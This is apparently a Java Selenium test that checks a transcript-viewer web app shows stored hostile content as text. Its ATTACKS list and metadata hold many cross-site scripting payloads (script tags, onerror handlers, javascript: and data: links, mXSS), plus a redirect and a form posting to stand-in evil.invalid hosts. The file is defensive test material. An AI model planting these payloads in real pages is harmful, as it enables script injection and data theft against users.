package lethe.ui;

import io.dropwizard.testing.ConfigOverride;
import io.dropwizard.testing.junit5.DropwizardAppExtension;
import io.dropwizard.testing.junit5.DropwizardExtensionsSupport;
import lethe.LetheConfiguration;
import lethe.testing.Browser;
import lethe.testing.Http;
import lethe.testing.LetheApp;
import lethe.testing.Turns;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.NoAlertPresentException;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.logging.LogEntry;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.fail;

/**
 * Transcripts are untrusted: whatever a collector stored, the pages show it as text and no script of it
 * runs. Every trick below would, if it got through, open a dialog, change the document title, add an
 * element, restyle the page or leave a CSP violation in the console; the browser must show none of that,
 * and the text must still be there to read.
 */
@ExtendWith(DropwizardExtensionsSupport.class)
class UntrustedContentTest {

    static final DropwizardAppExtension<LetheConfiguration> APP = LetheApp.start(ConfigOverride.config("ui.time_zone", "UTC"));

    static final String SESSION = "hostile";
    static final String TITLE_ATTACK = "<script>document.title='pwned-title'</script><img src=x onerror=alert('title')>";
    static final String BIDI = "access = \"user\u202E \u2066// admin\u2069 \u2066\" ;";
    static final int HUGE_LINE_BYTES = 5 * 1024 * 1024;

    /** Markdown and HTML tricks, one turn each. */
    static final List<String> ATTACKS = List.of(
            "<script>alert('script-tag')</script>",
            "<img src=x onerror=\"alert('img-onerror')\">",
            "<svg onload=alert('svg-onload')><script>alert('svg-script')</script></svg>",
            "<iframe src=\"javascript:alert('iframe')\"></iframe><object data=\"javascript:alert('object')\"></object>",
            "<a href=\"javascript:alert('raw-anchor')\">raw anchor</a>",
            "[markdown javascript link](javascript:alert('md-link'))",
            "[entity-encoded link](&#106;avascript:alert('entity-link'))",
            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)",
            "<javascript:alert('autolink')>",
            "![tracking pixel](https://tracker.invalid/pixel.png) and ![js image](javascript:alert('img-link'))",
            "[title breakout](https://example.com \"t\\\" onmouseover=\\\"alert('title-attr')\")",
            "</style><script>alert('style-breakout')</script><style>",
            "</textarea><script>alert('textarea-breakout')</script>",
            "<style>body { display: none }</style><div style=\"position:fixed;inset:0;background:red\">covered</div>",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.invalid/\"><base href=\"https://evil.invalid/\">",
            "<form action=\"https://evil.invalid/steal\"><input name=x><button>go</button></form>",
            "```\"><script>alert('fence-info')</script>\nplain code\n```",
            "<details open ontoggle=alert('ontoggle')>x</details>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>",
            BIDI);

    static Browser browser;
    static WebDriver driver;

    @BeforeAll
    static void storeHostileTranscripts() {
        double now = Instant.now().getEpochSecond();
        StringBuilder ndjson = new StringBuilder();
        ndjson.append(hostileMeta(now)).append('\n');
        for (int i = 0; i < ATTACKS.size(); i++) {
            ndjson.append(Turns.line(SESSION, "t" + (i + 1), i + 1, i % 2 == 0 ? "user" : "assistant", now + i, ATTACKS.get(i))).append('\n');
        }
        ndjson.append(toolTurn(now)).append('\n');
        ndjson.append(Turns.line(SESSION, "huge", 99, "user", now + 99, hugeLine())).append('\n');
        Http.Response stored = Http.to(APP.getLocalPort()).as("alice").ingest(ndjson.toString());
        assertThat(stored.status()).as(stored.body()).isEqualTo(200);
        assertThat(stored.json().get("errors")).as(stored.body()).isEmpty();

        browser = Browser.start().as("alice");
        driver = browser.driver();
    }

    @BeforeEach
    void forgetEarlierConsoleMessages() {
        browser.consoleLog();
    }

    @AfterAll
    static void closeBrowser() {
        if (browser != null) {
            browser.close();
        }
    }

    /** Turn 0 carries the hostile title and meta; model and tool name are attacker-chosen too. */
    private static String hostileMeta(double now) {
        return "{\"tool\":\"claude-code\",\"host\":\"laptop\",\"session_id\":\"" + SESSION + "\",\"turn_id\":\"t0\","
                + "\"seq\":0,\"role\":\"system\",\"timestamp\":" + now + ",\"content\":\"session start\","
                + "\"model\":" + Turns.quote("<b onmouseover=alert('model')>model</b>") + ","
                + "\"session_meta\":{\"title\":" + Turns.quote(TITLE_ATTACK) + ","
                + "\"cwd\":" + Turns.quote("</dd><script>alert('meta')</script>") + ","
                + Turns.quote("<img src=x onerror=alert('meta-key')>") + ":\"value\"}}";
    }

    private static String toolTurn(double now) {
        return "{\"tool\":\"claude-code\",\"host\":\"laptop\",\"session_id\":\"" + SESSION + "\",\"turn_id\":\"tool\","
                + "\"seq\":50,\"role\":\"tool\",\"kind\":\"tool_result\","
                + "\"tool_name\":" + Turns.quote("<img src=x onerror=alert('tool-name')>") + ","
                + "\"timestamp\":" + (now + 50) + ",\"content\":" + Turns.quote("$ cat page.html\n<script>alert('tool-output')</script>") + "}";
    }

    /** One 5 MB line of prose with no newline at all. */
    private static String hugeLine() {
        StringBuilder text = new StringBuilder(HUGE_LINE_BYTES + 64);
        while (text.length() < HUGE_LINE_BYTES) {
            text.append("the quick brown fox jumps over the lazy dog <b>not bold</b> ");
        }
        return text.toString();
    }

    private String url(String path) {
        return "http://127.0.0.1:" + APP.getLocalPort() + path;
    }

    /** The checks below mean something only if they catch what they look for: prove that they do. */
    @Test
    void theHarnessNoticesADialogAndTheConsoleReportsABlockedInjection() {
        browser.open(url("/"));
        browser.consoleLog();
        browser.driver().executeScript("setTimeout(function () { alert('probe'); }, 0);");
        assertThat(waitForDialog()).isEqualTo("probe");

        // An inline script that made it into the DOM is refused by the Content-Security-Policy, and says so.
        browser.driver().executeScript("var s = document.createElement('script');"
                + " s.textContent = \"document.title = 'ran'\"; document.body.appendChild(s);");
        assertThat(driver.getTitle()).isEqualTo("Sessions · lethe");
        assertThat(browser.consoleLog()).extracting(LogEntry::getMessage)
                .anySatisfy(message -> assertThat(message).contains("Content Security Policy"));
    }

    @Test
    void theTranscriptShowsEveryAttackAsTextAndRunsNone() {
        browser.open(url("/sessions/claude-code/laptop/" + SESSION));
        browser.screenshot("20-untrusted-transcript");

        assertNothingRan(TITLE_ATTACK);
        WebElement main = driver.findElement(By.tagName("main"));
        assertThat(main.isDisplayed()).isTrue();
        assertThat(main.findElements(By.cssSelector(
                "script, iframe, object, embed, img, svg, math, style, meta, base, form, input, textarea, button,"
                        + " [onerror], [onload], [onclick], [onmouseover], [ontoggle], [style]"))).isEmpty();
        assertThat(main.findElements(By.cssSelector("details[open]"))).isEmpty();
        for (WebElement link : main.findElements(By.cssSelector("a[href]"))) {
            assertThat(link.getAttribute("href")).matches("(https?://|mailto:).*");
        }

        String text = main.getText();
        assertThat(text).contains("<script>alert('script-tag')</script>", "<img src=x onerror=\"alert('img-onerror')\">",
                "</textarea><script>alert('textarea-breakout')</script>", "markdown javascript link",
                "<style>body { display: none }</style>", "<script>alert('tool-output')</script>",
                "<b onmouseover=alert('model')>model</b>", "</dd><script>alert('meta')</script>");
        assertThat(text).as("direction overrides are shown, not obeyed").contains("⟦U+202E⟧", "⟦U+2066⟧", "⟦U+2069⟧");
        assertThat(main.findElement(By.cssSelector("a.image-link")).getText()).isEqualTo("Image: tracking pixel");
        assertThat(driver.findElements(By.cssSelector("link[rel=stylesheet]"))).hasSize(1);
    }

    @Test
    void aFiveMegabyteLineIsFoldedWholeAndStillReadable() {
        String huge = "turn-" + (ATTACKS.size() + 3);
        browser.open(url("/sessions/claude-code/laptop/" + SESSION + "#" + huge));
        WebElement turn = driver.findElement(By.id(huge));
        WebElement summary = turn.findElement(By.cssSelector("details.fold > summary"));
        assertThat(summary.getText()).startsWith("the quick brown fox").contains("MB");
        summary.click();
        browser.screenshot("21-untrusted-huge-line");
        Number length = (Number) browser.driver().executeScript(
                "return arguments[0].querySelector('.md').textContent.length;", turn);
        assertThat(length.longValue()).as("nothing of the line is cut").isGreaterThanOrEqualTo(HUGE_LINE_BYTES);
        assertThat(turn.findElements(By.tagName("b"))).isEmpty();
        assertNothingRan(null);
    }

    @Test
    void theListAndStatsShowTheHostileTitleAsText() {
        browser.open(url("/"));
        browser.screenshot("22-untrusted-list");
        WebElement title = driver.findElement(By.cssSelector("table.session-list .cell-title a"));
        assertThat(title.getText()).isEqualTo(TITLE_ATTACK);
        assertThat(driver.findElements(By.cssSelector("main img, main script"))).isEmpty();
        assertNothingRan("Sessions");

        browser.open(url("/stats"));
        assertThat(driver.findElements(By.cssSelector("main script, main img, main [onerror]"))).isEmpty();
        assertNothingRan("Activity");
    }

    /** No dialog is open, the page kept its own title, and the console holds no error and no CSP report. */
    private static void assertNothingRan(String expectedTitle) {
        assertThatThrownBy(() -> driver.switchTo().alert()).isInstanceOf(NoAlertPresentException.class);
        if (expectedTitle != null) {
            assertThat(driver.getTitle()).isEqualTo(expectedTitle + " · lethe");
        }
        List<String> messages = new ArrayList<>();
        for (LogEntry entry : browser.consoleLog()) {
            messages.add(entry.getLevel() + " " + entry.getMessage());
        }
        assertThat(messages).as("browser console").isEmpty();
    }

    private static String waitForDialog() {
        long deadline = System.currentTimeMillis() + 5_000;
        while (System.currentTimeMillis() < deadline) {
            try {
                String text = driver.switchTo().alert().getText();
                driver.switchTo().alert().dismiss();
                return text;
            } catch (NoAlertPresentException e) {
                Thread.onSpinWait();
            }
        }
        return fail("no dialog appeared");
    }
}
